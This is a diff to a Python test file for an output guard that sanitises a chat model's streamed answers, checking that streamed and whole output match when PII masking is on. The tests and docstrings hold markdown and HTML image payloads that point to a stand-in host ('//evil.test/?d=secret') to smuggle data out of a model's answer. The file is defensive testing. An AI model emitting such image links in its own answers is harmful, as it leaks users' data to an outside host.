@@ -116,14 +116,34 @@ def test_streamed_addresses_that_reach_another_host_never_show(text: str, size: 
     assert out.startswith("See ") and out.endswith(" now.")
 
 
+@pytest.mark.parametrize("entities", [(), pii.ENTITIES], ids=["no-pii", "pii"])
 @pytest.mark.parametrize("size", [1, 2, 3, 7])
 @pytest.mark.parametrize("text", EXFILTRATION)
-def test_streamed_addresses_are_made_inert_as_the_whole_answer_is(text: str, size: int) -> None:
+def test_streamed_addresses_are_made_inert_as_the_whole_answer_is(
+    text: str, size: int, entities: tuple[str, ...]
+) -> None:
     """An HTML attribute's value holds spaces (``srcset="/a.png 1x, //evil 2x"``): the word hold
     let its first part through, sanitised apart, so a stream showed other text than the JSON
-    answer (a flaky stream-vs-JSON test in a full run). An unfinished tag is now held whole."""
-    whole, _ = run(OutputGuard(pii_entities=(), hosts=HOSTS), f"See {text} now.", 10_000)
-    streamed, _ = run(OutputGuard(pii_entities=(), hosts=HOSTS), f"See {text} now.", size)
+    answer (a flaky stream-vs-JSON test in a full run). An unfinished tag is now held whole.
+    With PII masked, a hold inside an address (below) is no cut either."""
+    whole, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), f"See {text} now.", 10_000)
+    streamed, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), f"See {text} now.", size)
+    assert streamed == whole
+
+
+def test_an_address_the_pii_hold_cuts_is_held_whole() -> None:
+    """The PII hold kept "secret " back (it may start an e-mail address), and the address before
+    it went out as far as the hold: "//evil.test/?d=" made inert, then "secret" shown as text,
+    where the whole answer removed the address with it (the stream-vs-JSON test of
+    test_chat_stream failed in one full run in ten). The straddle check of bare addresses
+    searched only up to the cut, so it never found one crossing it."""
+    text = "![x][1]\n\n> [1]: //evil.test/?d=secret | <img src=x>"
+    guard = OutputGuard(hosts=HOSTS)
+    whole = guard.feed(text) + guard.flush()
+    guard = OutputGuard(hosts=HOSTS)
+    cut = text.index("secret ") + len("secret ")
+    streamed = guard.feed(text[:cut]) + guard.feed(text[cut:]) + guard.flush()
+    assert "secret" not in whole
     assert streamed == whole
 
 
